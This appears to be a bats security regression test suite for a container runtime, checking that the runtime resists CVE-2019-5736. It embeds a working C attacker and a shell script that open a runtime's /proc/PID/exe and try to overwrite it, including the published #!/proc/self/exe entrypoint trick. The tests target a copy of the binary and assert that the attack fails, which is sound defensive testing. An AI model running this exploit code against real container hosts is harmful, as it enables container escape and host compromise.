#!/usr/bin/env bats
# CVE-2019-5736 class: the runtime binary cannot be overwritten from inside a container.
# While a runtime process (the container's init before execve, an exec'd process before execve,
# the parent of a createContainer or startContainer hook) is visible in the container's pid
# namespace, a process there can open /proc/PID/exe. The attack writes through it at once
# (ETXTBSY while the runtime runs) and again later, through a file descriptor it keeps until
# every runtime process has exited. clasp defends by running create/run/exec from a sealed memfd
# copy of itself (src/util/selfexec.c), so /proc/PID/exe never names the host file.
# Every test attacks a copy of the binary, so that a regression cannot damage build/clasp, and
# checks the hash of both the copy and the real binary.

load ../integration/helpers

# A static attacker for the races a shell loop is too slow for: it finds the first process whose
# exe is neither itself nor busybox, opens it, tries to write it, then retries writing through the
# held fd (as the published exploit did) until the write goes through, DIR/go appears or 15 s pass.
setup_file() {
	common_setup_file
	ATTACKER=$BATS_FILE_TMPDIR/attacker
	cat >"$BATS_FILE_TMPDIR/attacker.c" <<'EOF'
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>
static double now(void)
{
	struct timespec t;
	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec + t.tv_nsec / 1e9;
}
int main(int argc, char **argv)
{
	char path[4096], link[4096], go[4096];
	struct stat self, bb, st;
	FILE *l;
	int fd = -1, w;
	double end;
	if (argc < 2)
		return 2;
	snprintf(path, sizeof path, "%s/log", argv[1]);
	snprintf(go, sizeof go, "%s/go", argv[1]);
	if (!(l = fopen(path, "a")))
		return 2;
	setvbuf(l, NULL, _IONBF, 0);
	stat("/proc/self/exe", &self);
	if (stat("/bin/busybox", &bb) < 0)
		memset(&bb, 0, sizeof bb);
	fprintf(l, "watching\n");
	for (end = now() + 20; fd < 0 && now() < end;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && fd < 0 && (e = readdir(d))) {
			if (e->d_name[0] < '0' || e->d_name[0] > '9' || atoi(e->d_name) == getpid())
				continue;
			snprintf(path, sizeof path, "/proc/%s/exe", e->d_name);
			if ((fd = open(path, O_RDONLY | O_CLOEXEC)) < 0)
				continue;
			if (fstat(fd, &st) < 0 || (st.st_dev == self.st_dev && st.st_ino == self.st_ino) ||
			    (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino)) {
				close(fd);
				fd = -1;
			}
		}
		if (d)
			closedir(d);
	}
	if (fd < 0) {
		fprintf(l, "attacker-gave-up\nlate-done\n");
		return 0;
	}
	memset(link, 0, sizeof link);
	if (readlink(path, link, sizeof link - 1) < 0)
		strcpy(link, "?");
	fprintf(l, "target %s -> %s\n", path, link);
	w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	fprintf(l, "direct-write-%s\n", w >= 0 && write(w, "PWNED", 5) == 5 ? "ok" : "failed");
	w = open(path, O_RDWR | O_CLOEXEC);
	fprintf(l, "direct-open-rw-%s\nheld\n", w >= 0 ? "ok" : "failed");
	snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	for (end = now() + 15;;) {
		int gone = access(go, F_OK) == 0;
		w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
		if (w >= 0) {
			int ok = write(w, "PWNED", 5) == 5;
			fprintf(l, "late-write-%s (%s)\n", ok ? "ok" : "failed", ok ? "written" : strerror(errno));
			break;
		}
		if (errno != ETXTBSY || gone || now() > end) {
			fprintf(l, "late-write-failed (%s)\n", strerror(errno));
			break;
		}
		usleep(1000);
	}
	fprintf(l, "late-done\n");
	return 0;
}
EOF
	gcc -static -O2 -o "$ATTACKER" "$BATS_FILE_TMPDIR/attacker.c"
	export ATTACKER
}

setup() {
	common_setup
	REAL_RUNTIME=$RUNTIME
	REAL_HASH=$(sha256sum <"$REAL_RUNTIME")
	cp "$RUNTIME" "$BATS_TEST_TMPDIR/rt-copy"
	RUNTIME=$BATS_TEST_TMPDIR/rt-copy
	COPY_HASH=$(sha256sum <"$RUNTIME")
	# X: shared between the host and the container (bind-mounted at /mnt); holds the attack
	# script, its log and the "go" flag for the late write.
	X=$BATS_TEST_TMPDIR/x
	mkdir "$X"
	chmod 777 "$X"
	traversable "$X"
	write_attack "$X/attack.sh"
	update_config ".mounts += [{\"destination\": \"/mnt\", \"type\": \"bind\", \"source\": \"$X\", \"options\": [\"bind\"]}]"
}

teardown() {
	touch "$X/go" 2>/dev/null || true
	common_teardown
}

# attack.sh EXE DIR: write EXE now; keep it open in a background process that writes again once
# DIR/go exists (after every runtime process is gone). Results go to DIR/log.
write_attack() {
	cat >"$1" <<'EOF'
#!/bin/sh
exe=$1
dir=$2
exec 4>>"$dir/log"
echo "target $exe -> $(readlink "$exe")" >&4
if (echo PWNED >>"$exe") 2>/dev/null; then echo direct-write-ok >&4; else echo direct-write-failed >&4; fi
if (exec 6<>"$exe") 2>/dev/null; then echo direct-open-rw-ok >&4; else echo direct-open-rw-failed >&4; fi
(
	command exec 5<"$dir"
	if ! command exec 3<"$exe"; then
		echo hold-failed >&4
		echo late-done >&4
		exit 0
	fi
	echo held >&4
	i=0
	# fd 5 keeps reaching DIR after pivot_root has moved this process's root.
	while [ ! -e /proc/self/fd/5/go ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i + 1)); done
	if (echo PWNED >>/proc/self/fd/3) 2>/dev/null; then echo late-write-ok >&4; else echo late-write-failed >&4; fi
	echo late-done >&4
) </dev/null >/dev/null 2>&1 &
exit 0
EOF
	chmod 755 "$1"
}

# The attack ran, and every write failed, and both binaries are intact.
assert_binary_intact() {
	echo "--- attack log:"
	cat "$X/log" || true
	grep -q '^target ' "$X/log"
	grep -qx direct-write-failed "$X/log"
	grep -qx direct-open-rw-failed "$X/log"
	grep -qx late-done "$X/log"
	refute grep -qx late-write-ok "$X/log"
	[ "$(sha256sum <"$RUNTIME")" = "$COPY_HASH" ]
	[ "$(sha256sum <"$REAL_RUNTIME")" = "$REAL_HASH" ]
}

@test "CVE-2019-5736: a createContainer hook cannot overwrite the runtime through /proc/PID/exe" {
	# The hook runs inside the container's namespaces before pivot_root, as a child of the init
	# (still the runtime); the state on stdin names the init's pid.
	cat >"$X/hook.sh" <<EOF
#!/bin/sh
pid=\$(sed -n 's/.*"pid": *\([0-9]*\).*/\1/p')
exec "$X/attack.sh" "/proc/\$pid/exe" "$X"
EOF
	chmod 755 "$X/hook.sh"
	update_config ".hooks.createContainer = [{\"path\": \"$X/hook.sh\", \"timeout\": 10}]"
	set_cmd 'sleep 1000'
	id=$(new_id)
	run_d "$id"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

@test "CVE-2019-5736: a startContainer hook cannot overwrite the runtime through /proc/PID/exe" {
	# startContainer runs after pivot_root, so its path resolves in the container: /mnt.
	cat >"$X/shook.sh" <<'EOF'
#!/bin/sh
exec /mnt/attack.sh "/proc/$PPID/exe" /mnt
EOF
	chmod 755 "$X/shook.sh"
	update_config '.hooks.startContainer = [{"path": "/mnt/shook.sh", "timeout": 10}]'
	set_cmd 'sleep 1000'
	id=$(new_id)
	run_d "$id"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

# A privileged container (every capability, including CAP_SYS_PTRACE) attacks the next runtime
# process that appears in its pid namespace.
attacker_caps() {
	local all='["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_DAC_READ_SEARCH","CAP_FOWNER","CAP_FSETID","CAP_KILL","CAP_SETGID","CAP_SETUID","CAP_SETPCAP","CAP_NET_ADMIN","CAP_SYS_CHROOT","CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_MKNOD","CAP_AUDIT_WRITE"]'
	update_config ".process.capabilities = {\"bounding\": $all, \"effective\": $all, \"permitted\": $all} | .process.noNewPrivileges = false"
}

attacker_bundle() {
	attacker_caps
	set_cmd '
		echo watching >/mnt/watching
		i=0
		while [ $i -lt 400 ]; do
			for p in /proc/[0-9]*; do
				e=$(readlink $p/exe 2>/dev/null) || continue
				case "$e" in */busybox | "") continue ;; esac
				/mnt/attack.sh $p/exe /mnt
				sleep 1000
			done
			i=$((i + 1))
			sleep 0.05
		done
		sleep 1000'
}

@test "CVE-2019-5736: a container process cannot overwrite the runtime through another container's init" {
	attacker_bundle
	a=$(new_id attacker)
	run_d "$a"
	[ "$status" -eq 0 ]
	wait_for_file "$X/watching"
	apid=$(ct_pid "$a")
	# The victim joins the attacker's pid namespace; its init is the runtime until start.
	make_bundle "$BATS_TEST_TMPDIR/b"
	update_config ".linux.namespaces |= map(if .type == \"pid\" then .path = \"/proc/$apid/ns/pid\" else . end)" "$BATS_TEST_TMPDIR/b"
	set_cmd 'sleep 1000' "$BATS_TEST_TMPDIR/b"
	b=$(new_id victim)
	rt_bg create --bundle "$BATS_TEST_TMPDIR/b" "$b"
	[ "$status" -eq 0 ] || {
		echo "$output"
		return 1
	}
	wait_for_output "$X/log" held
	rt start "$b"
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

# The exploit as published: the process the runtime starts is a script whose interpreter is
# #!/proc/self/exe, so the kernel runs the runtime's own binary again inside the container. Its
# `--log` is a FIFO nobody reads yet, which holds that process still while the attacker opens it.
# (On some kernels that execve fails with ENOENT; the attacker then catches the init itself.)
evil_script() {
	cp "$ATTACKER" "$X/attacker"
	mkfifo "$X/fifo"
	chmod 666 "$X/fifo"
	printf '#!/proc/self/exe --log=/mnt/fifo\n' >"$X/evil"
	chmod 755 "$X/evil"
}

# release_fifo: let the re-executed runtime go on (and exit) once the attacker holds it.
release_fifo() {
	wait_for_output "$X/log" held 20 || return 1
	timeout 2 cat "$X/fifo" >/dev/null || true
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
}

@test "CVE-2019-5736: a #!/proc/self/exe entrypoint cannot overwrite the runtime" {
	evil_script
	# The attacker waits in a first, privileged container; the victim shares its pid namespace
	# and its entrypoint re-executes the runtime. The attacker takes whichever runtime process it
	# sees first: the victim's init waiting for start, or the re-executed runtime.
	attacker_caps
	set_cmd '/mnt/attacker /mnt; sleep 1000'
	a=$(new_id attacker)
	run_d "$a"
	[ "$status" -eq 0 ]
	wait_for_output "$X/log" watching
	apid=$(ct_pid "$a")
	make_bundle "$BATS_TEST_TMPDIR/b"
	update_config ".mounts += [{\"destination\": \"/mnt\", \"type\": \"bind\", \"source\": \"$X\", \"options\": [\"bind\"]}] | .linux.namespaces |= map(if .type == \"pid\" then .path = \"/proc/$apid/ns/pid\" else . end) | .process.args = [\"/mnt/evil\"]" "$BATS_TEST_TMPDIR/b"
	b=$(new_id victim)
	rt_bg create --bundle "$BATS_TEST_TMPDIR/b" "$b"
	[ "$status" -eq 0 ]
	wait_for_output "$X/log" held 20
	rt start "$b"
	release_fifo
	assert_binary_intact
}

# exec_d ID ARGS...: exec -d, skipping the test while clasp has no exec.
exec_d() {
	rt_bg exec -d "$@"
	case "$output" in *"not implemented"*) skip "clasp exec is not implemented yet" ;; esac
	[ "$status" -eq 0 ] || {
		echo "exec -d $*: $output" >&2
		return 1
	}
}

# exec_victims ID: exec short processes until the attacker has caught one of them before its
# execve (the window is the exec child's setup, a millisecond or so).
exec_victims() {
	local i
	for i in $(seq 30); do
		grep -q '^held' "$X/log" 2>/dev/null && return 0
		exec_d "$1" /bin/true
		sleep 0.05
	done
	wait_for_output "$X/log" held 2
}

@test "CVE-2019-5736: a container process cannot overwrite the runtime through an exec'd process" {
	evil_script
	# CAP_SYS_PTRACE: the attacker can open the exe even of a non-dumpable runtime process.
	attacker_caps
	set_cmd '/mnt/attacker /mnt; sleep 1000'
	a=$(new_id)
	run_d "$a"
	[ "$status" -eq 0 ]
	wait_for_output "$X/log" watching
	exec_victims "$a"
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}

@test "CVE-2019-5736: an exec'd process cannot overwrite the runtime through a second exec" {
	evil_script
	attacker_caps
	set_cmd 'sleep 1000'
	a=$(new_id)
	run_d "$a"
	[ "$status" -eq 0 ]
	# The attacker is an exec'd process (the container's capabilities, CAP_SYS_PTRACE included).
	exec_d "$a" /mnt/attacker /mnt
	wait_for_output "$X/log" watching
	exec_victims "$a"
	touch "$X/go"
	wait_for_output "$X/log" late-done 20
	assert_binary_intact
}
